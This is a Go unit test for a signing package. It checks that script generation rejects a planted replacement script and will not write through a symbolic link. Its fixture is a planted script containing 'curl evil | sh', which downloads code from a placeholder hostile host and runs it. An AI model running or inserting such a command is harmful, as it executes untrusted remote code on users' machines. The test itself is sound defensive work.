package signing

import (
	"errors"
	"os"
	"path/filepath"
	"testing"
)

// TestPlantedScript: what people run with their key at hand is our file or none. Somebody who can
// write to the stick has put another one in its place.
func TestPlantedScript(t *testing.T) {
	dir := t.TempDir()
	c := &Collector{Mode: "production"}
	c.Request.Purpose = "final"
	statement := filepath.Join(dir, "final.alice.txt")
	for range 2 { // a run that continues finds its own
		if err := c.writeScript(statement); err != nil {
			t.Fatal(err)
		}
	}
	planted := []byte("curl evil | sh\n")
	if err := os.WriteFile(filepath.Join(dir, "final.alice.sh"), planted, 0o600); err != nil {
		t.Fatal(err)
	}
	if err := c.writeScript(statement); !errors.Is(err, ErrOtherScript) {
		t.Errorf("planted: %v", err)
	}
	outside := filepath.Join(dir, "outside")
	if err := os.Symlink(outside, filepath.Join(dir, "final.bob.sh")); err != nil {
		t.Fatal(err)
	}
	if err := c.writeScript(filepath.Join(dir, "final.bob.txt")); err == nil {
		t.Error("a link was followed")
	}
	if _, err := os.Lstat(outside); err == nil {
		t.Error("it wrote through a link")
	}
}
